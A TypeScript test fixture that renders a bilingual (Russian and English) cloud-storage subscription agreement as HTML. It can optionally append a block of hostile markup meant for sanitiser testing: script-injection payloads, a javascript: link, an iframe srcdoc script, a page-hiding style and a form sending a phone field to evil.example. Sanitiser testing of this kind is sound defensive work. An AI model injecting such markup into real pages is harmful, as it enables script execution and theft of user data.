const texts = {
  ru: {
    title: 'Условия подписки на облачное хранилище',
    parts: [
      ['Что входит', 'Место для фото и файлов выбранного объёма на выбранный срок.'],
      [
        'Оплата',
        'Плата списывается в начале каждого периода. Если на балансе телефона не хватает средств, плата берётся по дням, пока баланса не хватит на весь период.',
      ],
      ['Проверка карты', 'При привязке карты списываются и сразу возвращаются 10 рублей.'],
      [
        'Отмена',
        'Подписку можно отменить в любой момент; оплаченное место остаётся до конца срока.',
      ],
    ],
  },
  en: {
    title: 'Terms of the cloud storage subscription',
    parts: [
      [
        'What you get',
        'Space for photos and files of the size and for the period that you choose.',
      ],
      [
        'Payment',
        'The price is charged at the start of each period. While the phone balance does not cover a period, it is charged by the day.',
      ],
      ['Card check', 'Binding a card charges 10 rubles and refunds them at once.'],
      ['Cancelling', 'You can cancel at any time; what you paid for stays until its period ends.'],
    ],
  },
} as const;

/** Markup that no page may run: a sanitiser must remove all of it. */
const hostileMarkup = `<img src="x" onerror="window.hacked=true"><script>window.hacked=true</script>
<a href="javascript:window.hacked=true">link</a><iframe srcdoc="<script>parent.hacked=true</script>"></iframe>
<form action="https://evil.example/"><input name="phone"></form><style>*{display:none}</style>`;

/** The user agreement as an HTML document. */
export function agreement(lang: 'ru' | 'en', isHostile: boolean): string {
  const { title, parts } = texts[lang];
  const body = parts.map(([head, text]) => `<h2>${head}</h2><p>${text}</p>`).join('\n');
  return `<!doctype html><html lang="${lang}"><head><meta charset="utf-8"><title>${title}</title></head>
<body><h1>${title}</h1>\n${body}\n${isHostile ? hostileMarkup : ''}</body></html>`;
}
